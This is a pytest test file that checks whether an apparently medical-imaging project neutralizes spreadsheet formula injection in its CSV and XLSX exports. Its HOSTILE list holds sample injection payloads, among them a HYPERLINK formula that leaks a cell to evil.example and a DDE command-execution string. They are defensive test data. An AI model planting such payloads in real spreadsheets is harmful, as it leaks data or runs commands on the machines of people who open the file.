"""Cells that a spreadsheet program would evaluate are written as plain text."""

import csv
import io

import openpyxl
import pytest

from adit.core.spreadsheets import CsvWriter, append_xlsx_row, neutralize

# As a PACS or a user might send them (OWASP's CSV injection examples and their relatives).
HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&B2,"Details")',
    "+1",
    "-2+3",
    "@SUM(1)",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
HARMLESS = ["PAT-001", "Müller^Hans", "1.2.840.113619.2.55", "a=b", "", "2+2"]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_start_gets_an_apostrophe(value):
    assert neutralize(value) == f"'{value}"


@pytest.mark.parametrize("value", [*HARMLESS, 42, -1, 2.5, None])
def test_other_values_stay_as_they_are(value):
    assert neutralize(value) == value


def test_csv_cells_are_neutralized_and_quoted():
    output = io.StringIO()
    writer = CsvWriter(output)
    writer.writerow(["patient_id", "pseudonym"])
    writer.writerows([[value, "P1"] for value in HOSTILE + HARMLESS])

    rows = list(csv.reader(io.StringIO(output.getvalue())))

    assert [row[0] for row in rows[1:]] == [f"'{value}" for value in HOSTILE] + HARMLESS
    assert output.getvalue().startswith('"patient_id","pseudonym"\r\n')


def test_xlsx_cells_are_text_not_formulas(tmp_path):
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    assert sheet is not None
    for value in HOSTILE + HARMLESS:
        append_xlsx_row(sheet, [value, 7])
    workbook.save(tmp_path / "table.xlsx")

    cells = list(openpyxl.load_workbook(tmp_path / "table.xlsx").active.iter_rows())  # type: ignore[union-attr]

    # XML reads a lone carriage return back as a line feed.
    expected = [f"'{value}".replace("\r", "\n") for value in HOSTILE] + HARMLESS
    assert [row[0].value or "" for row in cells] == expected
    assert all(row[0].data_type != "f" for row in cells)
    assert [row[1].value for row in cells] == [7] * len(cells)


def test_xlsx_control_characters_from_a_pacs_do_not_break_the_file(tmp_path):
    workbook = openpyxl.Workbook(write_only=True)
    sheet = workbook.create_sheet("Results")
    append_xlsx_row(sheet, ["Head\x00CT\x1b", "plain"])
    workbook.save(tmp_path / "table.xlsx")

    row = next(openpyxl.load_workbook(tmp_path / "table.xlsx").active.iter_rows(values_only=True))  # type: ignore[union-attr]

    assert row == ("Head\ufffdCT\ufffd", "plain")
